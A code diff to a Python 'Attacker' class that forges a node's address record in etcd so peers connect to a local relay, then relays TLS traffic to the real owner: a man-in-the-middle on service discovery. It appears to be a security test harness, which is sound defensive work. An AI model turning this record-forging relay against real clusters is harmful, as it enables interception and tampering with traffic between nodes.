@@ -61,9 +61,11 @@ class Attacker:
             kv, _ = await etcd.get(self.schema.nodes + self.args.owner.encode())
             assert kv is not None, "the owner's record is not in etcd"
             record = msgpack.unpackb(kv.value, raw=False)
-            self.owner_host, _, port = record["addresses"]["tcp"].rpartition(":")
-            self.owner_port = int(port)
-            record["addresses"] = {"tcp": f"127.0.0.1:{relay_port}"}
+            relay = f"127.0.0.1:{relay_port}"
+            if record["addresses"]["tcp"] != relay:  # not the record forged last round: the owner's own
+                self.owner_host, _, port = record["addresses"]["tcp"].rpartition(":")
+                self.owner_port = int(port)
+            record["addresses"] = {"tcp": relay}
             record["transports"] = ["tcp"]
             if self.args.mode == "evil":
                 record["node_id"] = "evil"
@@ -84,7 +86,13 @@ class Attacker:
 
     # -- the relay --------------------------------------------------------------------------------
     async def session(self, victim_r: asyncio.StreamReader, victim_w: asyncio.StreamWriter) -> None:
-        self.stats["connections"] += 1
+        self.stats["connections"] += 1  # counted at TCP accept: a victim that gives up inside TLS still came
+        try:
+            if self.server_tls is not None:
+                await victim_w.start_tls(self.server_tls)
+        except (OSError, ssl.SSLError):
+            victim_w.close()
+            return
         try:
             owner_r, owner_w = await asyncio.open_connection(self.owner_host, self.owner_port, ssl=self.client_tls)
         except (OSError, ssl.SSLError):
@@ -145,7 +153,7 @@ async def read_frame(reader: asyncio.StreamReader) -> Frame | None:
 
 async def main(args: argparse.Namespace) -> None:
     attacker = Attacker(args)
-    server = await asyncio.start_server(attacker.session, "127.0.0.1", 0, ssl=attacker.server_tls)
+    server = await asyncio.start_server(attacker.session, "127.0.0.1", 0)  # TLS started per session
     port = server.sockets[0].getsockname()[1]
     await attacker.forge(port)
     overwriting = asyncio.ensure_future(attacker.keep_overwriting(port))
